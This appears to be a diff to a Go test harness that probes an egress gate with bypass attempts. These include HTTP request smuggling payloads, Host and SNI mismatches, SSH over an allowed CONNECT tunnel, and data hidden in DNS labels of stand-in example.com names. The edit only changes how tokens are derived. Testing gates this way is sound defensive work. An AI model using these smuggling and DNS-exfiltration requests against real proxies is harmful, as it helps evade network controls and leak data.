@@ -16,15 +16,15 @@ import (
 // smuggled are attacks by requests that two readers could read in two ways
 // (T6). The service that may be reached tells whether it saw the second one.
 func smuggled() []Attack {
-	second := func() string {
-		return "GET http://" + token(current()) + ".example.com/" + token(current()) + " HTTP/1.1\r\nHost: " + token(current()) + ".example.com\r\n\r\n"
+	second := func(p Plan) string {
+		return "GET http://" + token(p.ID) + ".example.com/" + token(p.ID) + " HTTP/1.1\r\nHost: " + token(p.ID) + ".example.com\r\n\r\n"
 	}
-	post := func(fields, body string) func(Plan) string {
+	post := func(fields, body string) func(p Plan) string {
 		return func(p Plan) string {
-			return "POST http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n" + fields + "\r\n" + body + second()
+			return "POST http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n" + fields + "\r\n" + body + second(p)
 		}
 	}
-	head := func(fields string) func(Plan) string {
+	head := func(fields string) func(p Plan) string {
 		return func(p Plan) string {
 			return "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n" + fields + "\r\n"
 		}
@@ -37,14 +37,14 @@ func smuggled() []Attack {
 		{ID: "smuggle-chunk", Try: "a malformed chunk size", Run: asks(post("Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n"))},
 		{ID: "smuggle-fold", Try: "a folded field", Run: asks(head("X: y\r\n Host: " + token("smuggle-fold") + ".example.com\r\n"))},
 		{ID: "smuggle-bare-lf", Try: "bare line feeds", Run: asks(func(p Plan) string {
-			return "GET http://" + p.Allowed + "/ HTTP/1.1\nHost: " + p.Allowed + "\nX: " + token(current()) + "\n\n"
+			return "GET http://" + p.Allowed + "/ HTTP/1.1\nHost: " + p.Allowed + "\nX: " + token(p.ID) + "\n\n"
 		})},
 		{ID: "smuggle-bare-cr", Try: "a bare carriage return in a field", Run: asks(head("X: y\rHost: " + token("smuggle-bare-cr") + ".example.com\r\n"))},
 		{ID: "smuggle-two-hosts", Try: "two Host fields", Run: asks(head("Host: " + token("smuggle-two-hosts") + ".example.com\r\n"))},
 		{ID: "smuggle-space", Try: "a space before a field's colon", Run: asks(head("Transfer-Encoding : chunked\r\n"))},
 		{ID: "host-mismatch", Try: "the listed name in the target, another in Host", Run: hostMismatch},
 		{ID: "host-mismatch-back", Try: "an unlisted name in the target, the listed one in Host", Run: asks(func(p Plan) string {
-			return "GET http://" + token(current()) + ".example.com/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n\r\n"
+			return "GET http://" + token(p.ID) + ".example.com/ HTTP/1.1\r\nHost: " + p.Allowed + "\r\n\r\n"
 		})},
 		{ID: "second-request", Try: "an unlisted name in the second request of a connection", Run: secondRequest},
 		{ID: "upgrade-h2c", Try: "an upgrade to HTTP/2, for what comes after it", Run: upgrade},
@@ -58,7 +58,7 @@ func smuggled() []Attack {
 // hostMismatch may be answered, if the service was given the checked name: it
 // says in its answer which Host it saw.
 func hostMismatch(ctx context.Context, p Plan) Finding {
-	raw := "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + token(current()) + ".example.com\r\n\r\n"
+	raw := "GET http://" + p.Allowed + "/ HTTP/1.1\r\nHost: " + token(p.ID) + ".example.com\r\n\r\n"
 	a, err := gateAsk(ctx, p, raw)
 	if err == nil && a.status == 200 && strings.Contains(a.body, "host="+p.Allowed+"\n") {
 		return held("%v, with the checked name as Host", a)
@@ -100,15 +100,15 @@ func upgrade(ctx context.Context, p Plan) Finding {
 func tunnels() []Attack {
 	all := []Attack{
 		{ID: "sni-mismatch", Try: "TLS for another name in an allowed tunnel", Run: func(ctx context.Context, p Plan) Finding {
-			return tunnelTLS(ctx, p, token(current())+".example.com")
+			return tunnelTLS(ctx, p, token(p.ID)+".example.com")
 		}},
 		{ID: "sni-none", Try: "TLS without a name in an allowed tunnel", Run: func(ctx context.Context, p Plan) Finding { return tunnelTLS(ctx, p, "") }},
 		{ID: "tunnel-plain", Try: "a plain request in an allowed tunnel", Run: tunnelText("GET / HTTP/1.1\r\nHost: x\r\n")},
 		{ID: "tunnel-ssh", Try: "SSH in an allowed tunnel", Run: tunnelText("SSH-2.0-")},
 		{ID: "tunnel-early", Try: "data in the same packet as CONNECT", Run: tunnelEarly},
 		{ID: "dns-labels", Try: "data in the labels of an unlisted name", Run: dnsLabels},
-		{ID: "dns-listed-labels", Try: "data in labels below a listed name", Run: asks(func(Plan) string {
-			return get("http://" + strings.Repeat("a0", 20) + "." + token(current()) + "." + rebindName("rebind-loopback") + "/")
+		{ID: "dns-listed-labels", Try: "data in labels below a listed name", Run: asks(func(p Plan) string {
+			return get("http://" + strings.Repeat("a0", 20) + "." + token(p.ID) + "." + rebindName("rebind-loopback") + "/")
 		})},
 	}
 	for i := range all {
@@ -164,7 +164,7 @@ func tunnelText(text string) func(context.Context, Plan) Finding {
 			return unknown("%v", err)
 		}
 		defer conn.Close()
-		if _, err := io.WriteString(conn, text+token(current())+"\r\n\r\n"); err != nil {
+		if _, err := io.WriteString(conn, text+token(p.ID)+"\r\n\r\n"); err != nil {
 			return held("cut: %s", errnoName(err))
 		}
 		return cut(r)
@@ -172,7 +172,7 @@ func tunnelText(text string) func(context.Context, Plan) Finding {
 }
 
 func tunnelEarly(ctx context.Context, p Plan) Finding {
-	conn, r, err := tunnel(ctx, p, token(current())+"\r\n\r\n")
+	conn, r, err := tunnel(ctx, p, token(p.ID)+"\r\n\r\n")
 	if err != nil {
 		if p.Gate != "" && (errors.Is(err, io.EOF) || errnoName(err) == "ECONNRESET") {
 			return held("cut")
@@ -199,8 +199,8 @@ func cut(r *bufio.Reader) Finding {
 func dnsLabels(ctx context.Context, p Plan) Finding {
 	var list []Finding
 	for i := range 4 {
-		name := fmt.Sprintf("%s%d.%s.example.com", strings.Repeat("7a", 25), i, token(current()))
-		list = append(list, asks(func(Plan) string { return connect(name + ":443") })(ctx, p))
+		name := fmt.Sprintf("%s%d.%s.example.com", strings.Repeat("7a", 25), i, token(p.ID))
+		list = append(list, asks(func(p Plan) string { return connect(name + ":443") })(ctx, p))
 	}
 	return worst(list)
 }
